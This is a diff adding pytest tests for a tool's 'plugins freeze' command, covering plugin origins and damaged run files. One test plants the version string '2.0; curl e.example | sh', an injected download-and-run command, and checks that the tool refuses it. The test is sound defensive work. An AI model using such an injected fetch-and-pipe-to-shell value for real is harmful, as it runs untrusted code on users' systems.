@@ -5,10 +5,20 @@ from typing import TYPE_CHECKING, Any
 
 import pytest
 
+from tests.plugins.conftest import Site
+
 if TYPE_CHECKING:
     from pathlib import Path
 
 Zoo = Any  # a fixture that runs the command line
+
+
+@pytest.fixture
+def site(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Site:
+    """An empty site folder on `sys.path`."""
+    (tmp_path / "site").mkdir()
+    monkeypatch.syspath_prepend(tmp_path / "site")
+    return Site(tmp_path / "site")
 
 
 def test_a_run_is_done_again_by_one_option(
@@ -59,3 +69,29 @@ def test_freeze_of_a_run_names_what_it_was_made_with(zoo: Zoo, finished: Path) -
     plan = json.loads((finished / "plan.json").read_text())
     assert f"torch=={plan['packages']['torch']}" in json.loads(out)
     assert zoo("plugins", "freeze", "--run", "nowhere")[0] == 66
+
+
+def test_freeze_names_where_each_plugin_came_from(zoo: Zoo, site: Site, tmp_path: Path) -> None:
+    def add(name: str, origin: object) -> None:
+        module = f"zoo_{name}"
+        info = site.add(f"zoo-{name}", "1.0", {name: module}, {f"{module}.py": "1 / 0"})
+        if origin:
+            (info / "direct_url.json").write_text(json.dumps(origin))
+
+    folder = (tmp_path / "mine").as_uri()
+    add("plain", None)
+    add("mine", {"url": folder, "dir_info": {"editable": True}})
+    add("wheel", {"url": "https://x.example/w.whl", "archive_info": {}})
+    lines = zoo("plugins", "freeze")[1].splitlines()
+    assert {"zoo-plain==1.0", f"-e {folder}", "zoo-wheel @ https://x.example/w.whl"} <= {*lines}
+
+
+def test_freeze_of_a_strangers_run_prints_names_and_versions_alone(
+    zoo: Zoo, finished: Path
+) -> None:
+    plan = json.loads((finished / "plan.json").read_text())
+    plan["packages"]["torch"] = "2.0; curl e.example | sh"
+    (finished / "plan.json").write_text(json.dumps(plan))
+    code, out, err = zoo("plugins", "freeze", "--run", finished)
+    assert (code, out) == (78, "")
+    assert "plan.json is damaged" in err
